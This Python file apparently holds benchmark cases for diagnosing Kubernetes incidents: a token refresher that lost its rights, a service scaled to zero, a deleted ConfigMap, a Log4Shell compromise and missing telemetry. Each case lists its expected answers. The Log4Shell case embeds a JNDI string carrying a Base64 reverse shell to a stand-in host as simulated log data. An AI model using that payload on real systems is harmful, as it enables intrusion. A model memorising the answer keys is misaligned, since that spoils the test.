"""Everyday trouble of rights, hands and strangers: a refresher without rights, two clean-ups, a shell, no evidence."""

from __future__ import annotations

from typing import Any

from tests.diagnosis.casemaker.case import Fault, case
from tests.diagnosis.casemaker.cases.fresh_a import NO_METRICS
from tests.diagnosis.casemaker.cases.quiet import HARM
from tests.diagnosis.casemaker.events import event, probe_failure, pull_failure
from tests.diagnosis.casemaker.jobs import failed_tries, job
from tests.diagnosis.casemaker.logs import L, log, often
from tests.diagnosis.casemaker.network import ingress, ip, service
from tests.diagnosis.casemaker.platform import config_map, hpa, node, nodes, secret
from tests.diagnosis.casemaker.pods import P, terminated, waiting
from tests.diagnosis.casemaker.scene import alert, postgres, redis, taken, well
from tests.diagnosis.casemaker.signals import exact, flat, requests, signal, step
from tests.diagnosis.casemaker.templates import container, from_secret, pod_spec
from tests.diagnosis.casemaker.workloads import Rev, deployment
from tests.diagnosis.casemaker.world import World, days, hours, minutes

Obj = dict[str, Any]


@case(
    "refresher-of-the-registry-token-lost-its-rights",
    "warehouse",
    "2026-04-08T15:12:00",
    title="A release and an unreleased service cannot pull from ECR: the CronJob that renews its token may not",
    drawn_from="ECR tokens of twelve hours, kept fresh by a CronJob; its Role was cut and the pulls failed a day later",
    why="Two services get 403 for images of which one has run for weeks: the token, not the tag. It was written 27 "
    "hours ago; the CronJob says which right it lacks, since a Role was edited. Old pods go on from images they have.",
    expect=[Fault("Role/ecr-login", "configuration_error", "page_human")],
    acceptable=[
        *(
            ("configuration_error", "page_human", what)
            for what in (
                "CronJob/ecr-login",
                "RoleBinding/ecr-login",
                "ServiceAccount/ecr-login",
                "Secret/ecr-pull",
                "Job/ecr-login-29594160",
            )
        ),
        ("dependency_failure", "page_human"),
        ("dependency_failure", "page_human", "CronJob/ecr-login"),
        ("dependency_failure", "page_human", "Secret/ecr-pull"),
    ],
    tolerated=["rollback_workload"],
    forbidden=["restart_workload", "no_action", "isolate_workload", "scale_workload"],
)
def refresher(w: World) -> None:
    nodes(w, "ip-10-2-0-14", "ip-10-2-1-77")
    secret(
        w, "ecr-pull", [".dockerconfigjson"], changed=hours(27.2), by="kubectl", kind="kubernetes.io/dockerconfigjson"
    )
    _refresher(w)
    node(w, "ip-10-2-2-5", age=hours(2))
    host = "481902773311.dkr.ecr.eu-west-1.amazonaws.com"
    pull = [{"name": "ecr-pull"}]
    specs = [pod_spec(container("api", f"{host}/pick-api:{v}"), imagePullSecrets=pull) for v in ("3.6.4", "3.7.0")]
    cause = _denied(host, "pick-api", "3.7.0")
    stuck = waiting("ImagePullBackOff", f'Back-off pulling image "{host}/pick-api:3.7.0": ErrImagePull: {cause}')
    revs = [Rev(specs[0], days(13)), Rev(specs[1], minutes(26))]
    young = P(1, age=minutes(26), state=stuck, unready=minutes(26), node="ip-10-2-1-77")
    top = deployment(w, "pick-api", revs, [P(0), P(0), P(0, node="ip-10-2-0-14"), young], replicas=3)
    pull_failure(w, top.pods[3], cause, since=minutes(26))
    service(w, "pick-api")
    spec = pod_spec(container("slots", f"{host}/slots:118", cpu=("200m", "1")), imagePullSecrets=pull)
    cause = _denied(host, "slots", "118")
    stuck = waiting("ImagePullBackOff", f'Back-off pulling image "{host}/slots:118": ErrImagePull: {cause}')
    grown = P(age=minutes(41), state=stuck, unready=minutes(41), node="ip-10-2-2-5")
    slots = deployment(w, "slots", [Rev(spec, days(39))], [P(node="ip-10-2-0-14"), P(node="ip-10-2-1-77"), grown],
                       scaled=minutes(41))  # fmt: skip
    pull_failure(w, slots.pods[2], cause, since=minutes(41))
    hpa(w, slots, low=2, high=6, now=3, used=88, scaled=minutes(41))
    service(w, "slots")
    for index in range(3):
        log(w, top, index, "logfmt", often(12, 900, 1, "info", ["POST /picks 201 ms=31", "GET /picks/{n} 200 ms=8"]))
    redis(w, "locks")
    alert(w, "KubePodNotReady", minutes(11), f"{top.pod(3)} is not ready for more than 15 minutes", pod=top.pod(3))
    taken(w, ("objects", True, ""), ("logs", True, ""), NO_METRICS)


def _denied(host: str, name: str, tag: str) -> str:
    return (
        f'failed to pull and unpack image "{host}/{name}:{tag}": failed to resolve reference "{host}/{name}:{tag}": '
        f"unexpected status from HEAD request to https://{host}/v2/{name}/manifests/{tag}: 403 Forbidden"
    )


def _refresher(w: World) -> None:
    """Add the CronJob that renews the token, what it may do, and its last try."""
    name, api = "ecr-login", "rbac.authorization.k8s.io"
    old = days(220)
    w.add({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": w.meta("ServiceAccount", name, old)})
    rules = [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get", "list"]}]
    role: Obj = {"apiVersion": f"{api}/v1", "kind": "Role", "metadata": w.meta("Role", name, old), "rules": rules}
    w.add(w.changed(role, hours(24.6), "kubectl-edit", {"f:rules": {}}))
    bound: Obj = {"apiVersion": f"{api}/v1", "kind": "RoleBinding", "metadata": w.meta("RoleBinding", name, old)}
    bound["subjects"] = [{"kind": "ServiceAccount", "name": name, "namespace": w.namespace}]
    w.add(bound | {"roleRef": {"apiGroup": api, "kind": "Role", "name": name}})
    script = (
        "TOKEN=$(aws ecr get-login-password) && kubectl create secret docker-registry ecr-pull "
        "--docker-server=481902773311.dkr.ecr.eu-west-1.amazonaws.com --docker-username=AWS "
        '--docker-password="$TOKEN" --dry-run=client -o yaml | kubectl apply -f -'
    )
    inner = container("login", "ghcr.io/warehouse-example/aws-kubectl:1.33", port=0, ready=None,
                      command=("/bin/sh", "-ec"), args=(script,))  # fmt: skip
    made = job(
        w, "ecr-login-29594160", pod_spec(inner, serviceAccountName=name), age=hours(3.2),
        pods=failed_tries(hours(3.2), count=4, lasts=6), failed="BackoffLimitExceeded", cron=name,
        schedule="0 */6 * * *",
    )  # fmt: skip
    text = (
        'Error from server (Forbidden): error when applying patch: to: Resource: "/v1, Resource=secrets", '
        'GroupVersionKind: "/v1, Kind=Secret" Name: "ecr-pull", Namespace: "warehouse" for: "STDIN": error when '
        f'patching "STDIN": secrets "ecr-pull" is forbidden: User "system:serviceaccount:warehouse:{name}" cannot '
        'patch resource "secrets" in API group "" in the namespace "warehouse"'
    )
    for index in range(4):
        log(w, made, index, "plain", [L(hours(3.1), "", text)])


@case(
    "two-faults-a-forgotten-zero-and-a-map-cleaned-away",
    "school-meals",
    "2026-01-14T10:47:00",
    title="Menus are not there: their service was scaled to zero; a payments pod cannot return without its ConfigMap",
    drawn_from="a morning after maintenance: kubectl scale --replicas=0 forgotten, and a ConfigMap deleted as unused",
    why="The portal is refused by a Service without pods: somebody scaled it to zero in the small hours. A payments "
    "pod that was moved names the map it lacks, which each revision needs; its two old pods live by what they read.",
    expect=[
        Fault("Deployment/menus", "configuration_error", "scale_workload"),
        Fault("ConfigMap/payments-config", "configuration_error", "page_human"),
    ],
    acceptable=[
        ("capacity", "scale_workload", "Deployment/menus"),
        ("configuration_error", "page_human", "Deployment/menus"),
        ("configuration_error", "page_human", "Deployment/payments", "ConfigMap/payments-config"),
    ],
    forbidden=[
        "no_action",
        "isolate_workload",
        {"remedy": "rollback_workload", "target": "Deployment/payments"},
        {"remedy": "restart_workload", "target": "Deployment/payments"},
    ],
)
def cleaned(w: World) -> None:
    nodes(w, "sm-1", "sm-2", "sm-3")
    image = "registry.school-meals.example"
    specs = [pod_spec(container("menus", f"{image}/menus:{v}", port=5000)) for v in ("0.48", "0.49")]
    menus = deployment(w, "menus", [Rev(specs[0], days(70)), Rev(specs[1], days(34))], [], replicas=0)
    w.changed(menus.obj, hours(7.5), "kubectl", {"f:spec": {"f:replicas": {}}})
    menus.obj["metadata"]["managedFields"][-1]["subresource"] = "scale"
    service(w, "menus", target=5000)
    specs = [
        pod_spec(container("payments", f"{image}/payments:{v}", env={"MERCHANT_KEY": from_secret("merchant", "key")},
                           env_from=("configmap/payments-config",)))
        for v in ("21.0", "21.1")
    ]  # fmt: skip
    stuck = waiting("CreateContainerConfigError", 'configmap "payments-config" not found')
    moved = P(age=minutes(34), state=stuck, unready=minutes(34))
    payments = deployment(w, "payments", [Rev(specs[0], days(55)), Rev(specs[1], days(20))], [P(), P(), moved])
    text = 'Error: configmap "payments-config" not found'
    event(w, payments.pods[2], "Failed", text, first=minutes(34), last=6, count=159, container="payments")
    service(w, "payments")
    secret(w, "merchant", ["key"], changed=days(140))
    config_map(w, "portal-config", {"LOCALE": "de-CH", "MENUS_URL": "http://menus"}, changed=days(9))
    portal = well(w, "portal", f"{image}/portal:130", pods=2, age=hours(21), before=f"{image}/portal:129")
    for index in range(2):
        text = (
            "HTTPConnectionPool(host='menus', port=80): Failed to establish a new connection: [Errno 111] Connection "
        )
        text += f"refused ({ip(w, 'menus')})"
        log(w, portal, index, "python", often(9, 1500, 1, "error", [text, "GET /week/{n} 502"], "portal.menus"))
    for index in range(2):
        log(w, payments, index, "zap", often(20, 900, 1, "info", ["payment {n} captured"], "pay/capture.go:77"))
    requests(w, "portal", rate=step(3, 26, hours(1)), errors=flat(0.38), p95=flat(0.2))
    requests(w, "payments", rate=flat(4), errors=flat(0.001), p95=flat(0.3))
    exact(w, "replicas_available", {"component": "menus"}, flat(0))
    exact(w, "replicas_wanted", {"component": "menus"}, flat(0))
    exact(w, "replicas_available", {"component": "payments"}, step(3, 2, minutes(34), over=1))
    alert(w, "PortalErrors", hours(3.5), "38% of the requests to portal fail", service="portal")


@case(
    "shell-opened-through-a-log-line",
    "tender-desk",
    "2026-07-21T02:19:00",
    title="A Java service logged a JNDI address and obeyed it; its pod holds a shell to a stranger since 24 minutes",
    drawn_from="Log4Shell: a header that is logged loads a class, and bash talks to /dev/tcp of an address outside",
    why="The template is half a year old and the figures are well; one pod looked the address up and ran what came; "
    "the sensor saw bash with its ends on a foreign host. Cut it off and keep it; a restart destroys the evidence.",
    expect=[Fault("Deployment/document-search", "security_incident", "isolate_workload")],
    acceptable=[("security_incident", "page_human")],
    tolerated=["page_human"],
    forbidden=["restart_workload", "rollback_workload", "scale_workload", "no_action", "restart_connection_pool"],
)
def shell(w: World) -> None:
    nodes(w, "td-1", "td-2", "td-3")
    spec = pod_spec(container("search", "nexus.tender-desk.example/document-search:2.3.0", memory=("1Gi", "2Gi")))
    top = deployment(w, "document-search", [Rev(spec, days(187))], 2, age=days(400))
    service(w, "document-search")
    ingress(w, "tenders", "tenders.example", [("/search", "document-search", 80), ("/", "front", 80)])
    front = well(w, "front", "nexus.tender-desk.example/front:77", pods=2, age=days(3), port=3000)
    tries = ['"GET /.env HTTP/1.1" 404 153', '"GET /wp-login.php HTTP/1.1" 404 153', '"GET / HTTP/1.1" 200 8122']
    for index in range(2):
        log(w, front, index, "nginx", often(31, 2900, 2, "info", tries))
    asked = "${jndi:ldap://198.51.100.44:1389/Basic/Command/Base64/YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjQ0LzQ0NDQgMD4mMQ==}"
    bad = [
        L(minutes(24.2), "info", f"query from agent {asked}", "e.t.search.QueryLog"),
        L(
            minutes(24.1), "warn",
            "Error looking up JNDI resource [ldap://198.51.100.44:1389/Basic/Command/Base64/YmFzaCAtaSA+JiAv...]. "
            "javax.naming.NamingException: problem generating object using object factory [Root exception is "
            "java.lang.ClassCastException: ExploitQ8vNZfIuzF cannot be cast to javax.naming.spi.ObjectFactory]",
            "o.a.l.l.c.l.JndiLookup",
        ),
    ]  # fmt: skip
    calm = ["query 'road works' 41 hits 18 ms", "query 'school roof' 7 hits 11 ms", "index refreshed, {n} documents"]
    for index in range(2):
        log(
            w,
            top,
            index,
            "logback",
            [*often(22, 2000, 2, "info", calm, "e.t.search.QueryLog"), *(bad if index else [])],
        )
        labels = {"pod": top.pod(index), "container": "search"}
        signal(w, "cpu_share", labels, step(0.12, 0.21, minutes(24)) if index else flat(0.12))
        received = step(41_000, 690_000, minutes(24)) if index else flat(41_000)
        signal(w, "network_receive", {"pod": top.pod(index)}, received)
    requests(w, "document-search", rate=flat(6), errors=flat(0.002), p95=flat(0.09))
    requests(w, "front", rate=flat(13), errors=flat(0.001), p95=flat(0.06))
    text = (
        "Redirect stdout/stdin to network connection (process=bash parent=java cmdline=bash -i terminal=0 "
        f"k8s_pod_name={top.pod(1)} fd.name={top.pods[1]['status']['podIP']}:51844->198.51.100.44:4444)"
    )
    alert(w, "FalcoRedirectStdoutStdinToNetwork", minutes(24), text, pod=top.pod(1), rule="Redirect STDOUT/STDIN")


@case(
    "one-in-twenty-fails-and-all-lamps-are-dark",
    "radio-archive",
    "2026-12-09T16:36:00",
    title="An outside check says that one listener in twenty gets an error; metrics and logs are both out of reach",
    drawn_from="nights when Loki and Prometheus were down with the monitoring cluster while customers complained",
    why="Pods are ready, nothing restarted for weeks, the last release is four days older than the errors, and the one "
    "warning is a probe of another service an hour ago. Nothing tells the cause; whoever acts now guesses.",
    expect=[Fault("", "unknown", "page_human")],
    acceptable=[],
    forbidden=[*HARM, "no_action"],
)
def dark(w: World) -> None:
    nodes(w, "ra-1", "ra-2", "ra-3", cpu="8")
    image = "registry.radio-archive.example"
    player = well(w, "player-api", f"{image}/player-api:44.2", pods=4, age=days(4), before=f"{image}/player-api:44.1")
    ingress(w, "player", "listen.radio-archive.example", [("/", "player-api", 80)], tls="player-tls")
    secret(
        w, "player-tls", ["tls.crt", "tls.key"], changed=days(38), by="cert-manager-certificates-issuing",
        kind="kubernetes.io/tls",
    )  # fmt: skip
    hpa(w, player, low=4, high=10, now=4, used=44, scaled=days(2))
    cover = well(w, "covers", f"{image}/covers:12", pods=2, age=days(63))
    address = cover.pods[1]["status"]["podIP"]
    cause = f'Get "http://{address}:8080/healthz": context deadline exceeded'
    probe_failure(w, cover.pods[1], "Readiness", cause, first=minutes(57), last=minutes(57), count=1)
    secret(w, "postgres-auth", ["POSTGRES_PASSWORD"], changed=days(200))
    postgres(w, "archive-db", image="postgres:15.9")
    redis(w, "sessions")
    spec = pod_spec(container("reindex", f"{image}/reindex:9", port=0, ready=None))
    ended = terminated(0, "Completed", started=hours(4.5), finished=hours(4.2))
    done = P(age=hours(4.6), phase="Succeeded", state=ended, ready=False, unready=hours(4.2))
    job(w, "reindex-29684160", spec, age=hours(4.6), pods=[done], cron="reindex", schedule="0 12 * * *")
    config_map(w, "player-config", {"REGION": "north", "BITRATES": "64,128,256"}, changed=days(26))
    text = "synthetic check: 5% of GET /stream/token answer 500 since 16:08"
    alert(w, "SyntheticCheckFailing", minutes(27), text, service="player-api", severity="warning")
    taken(
        w,
        ("objects", True, ""),
        ("logs", False, "the read of the logs timed out after 10 s"),
        ("prometheus", False, "Get http://prometheus.monitoring:9090/api/v1/query_range: connect: connection refused"),
    )
